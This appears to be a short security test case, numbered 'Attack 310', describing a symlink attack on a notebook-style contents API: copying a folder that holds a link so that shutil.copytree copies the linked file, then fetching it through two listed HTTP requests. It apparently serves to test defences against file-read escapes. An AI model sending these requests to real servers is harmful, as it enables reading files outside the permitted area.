"""Attack 310: copy of a link"""

IDEA = "Copy a folder that holds a link: the copy holds the file."
SOURCE = "shutil.copytree"
REQUESTS = [("POST", "api/contents", '{"copy_from": "linked"}'), ("GET", "api/contents/linked-Copy1/link.txt", None)]
